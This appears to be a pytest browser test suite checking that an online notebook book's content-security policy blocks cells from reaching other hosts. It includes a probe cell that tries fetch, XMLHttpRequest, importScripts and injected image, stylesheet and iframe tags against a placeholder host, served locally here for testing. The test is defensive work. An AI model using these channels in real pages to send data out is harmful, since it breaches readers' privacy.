"""Under its content-security policy the book works, and cells cannot reach other hosts."""

import http.server
import threading

import pytest

from publish import content_policy
from publish import serve as serve_book
from tests.web.live.test_live_pages import CHAPTERS, Visit

pytestmark = pytest.mark.browser

# A cell that tries every way to send data to another host.
TELLTALE = """
import js
from IPython.display import HTML, display

async def by_fetch():
    await js.fetch("OTHER/fetch")

async def by_request():
    request = js.XMLHttpRequest.new()
    request.open("GET", "OTHER/request", False)
    request.send()

async def by_script():
    js.importScripts("OTHER/script")

for way in by_fetch, by_request, by_script:
    try:
        await way()
    except BaseException as error:
        print(type(error).__name__)
display(HTML("<img src='OTHER/picture'><link rel=stylesheet href='OTHER/style'>"
             "<iframe src='OTHER/frame'></iframe>"))
print("tried")
"""
WAYS = {"/fetch", "/request", "/script", "/picture", "/style", "/frame"}


@pytest.fixture
def other_host():
    """Yield the address of another host, and the set of paths requested from it."""
    asked = set()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.add(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def try_to_tell(visit, other_address):
    visit.open(f"notebooks/{CHAPTERS[0]}.html")
    visit.go_live()
    cell = visit.page.eval_on_selector(".cell[id]", "cell => cell.id")
    visit.write(cell, TELLTALE.replace("OTHER", other_address))
    assert visit.run(cell) == "done", visit.output(cell)
    assert "tried" in visit.output(cell)
    visit.page.wait_for_timeout(1000)


def test_cells_reach_no_other_host_from_a_plain_server(
    browser, book_address, other_host
):
    """Protects readers' privacy from a cell of someone else's book."""
    address, asked = other_host
    context = browser.new_context()
    visit = Visit(context, book_address)
    try_to_tell(visit, address)
    context.close()
    assert asked == set()
    assert {refused.split()[0] for refused in visit.refused} >= {"img-src", "frame-src"}


@pytest.mark.nightly
def test_cells_reach_no_other_host_from_make_serve(browser, built_book, other_host):
    """Protects teachers who show a student's page on their own computer."""
    address, asked = other_host
    with serve_book.serving(built_book) as book:
        context = browser.new_context(service_workers="block")
        try_to_tell(Visit(context, book), address)
        context.close()
    assert asked == set()


@pytest.mark.nightly  # it tests the two before it
def test_without_the_policy_they_would(browser, book_address, other_host):
    address, asked = other_host
    context = browser.new_context(service_workers="block", bypass_csp=True)
    try_to_tell(Visit(context, book_address), address)
    context.close()
    assert asked >= WAYS


def test_every_page_and_the_headers_file_have_the_policy(built_book):
    words = content_policy.header_value(content_policy.PAGES)
    assert words in (built_book / "_headers").read_text()
    assert "http" not in words
    for name in ("book/welcome", f"notebooks/{CHAPTERS[0]}", "search"):
        text = (built_book / f"{name}.html").read_text()
        # The policy applies only to what comes after it.
        assert text.index("Content-Security-Policy") < text.index("<script")
